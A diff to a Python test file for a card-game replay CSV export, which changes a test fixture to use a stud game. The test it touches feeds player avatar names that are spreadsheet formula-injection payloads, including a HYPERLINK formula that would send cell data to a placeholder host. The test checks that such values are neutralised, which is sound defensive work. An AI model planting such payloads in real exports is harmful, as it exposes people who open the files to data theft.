@@ -14,6 +14,7 @@ from dealer.replay.export import COLUMNS, CsvExport, json_line
 from dealer.replay.journal_reader import Choice, replay_items
 from dealer.settings import Settings
 from protocol.games.base import Bet
+from protocol.games.stud import StudGame
 from tests.dealer.support.golden_replays import write_blockhead, write_stud
 from tests.dealer.support.rig import SEED
 from tests.dealer.support.scribe import Scribe, players
@@ -87,7 +88,7 @@ def test_export_of_selected_hands(write: Callable[[Path], Path], tmp_path: Path)
 
 @pytest.mark.parametrize("avatar", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@x", 'a,"b";\u2028c'])
 def test_avatars_cannot_be_formulas(avatar: str, tmp_path: Path) -> None:
-    scribe = Scribe(Settings(SEED), players(avatar, "Brian"))
+    scribe = Scribe(Settings(SEED, StudGame()), players(avatar, "Brian"))
     scribe.game()
     scribe.hand(lambda player, turn: Bet(turn.owed))
     path = scribe.write(tmp_path / "a.journal")
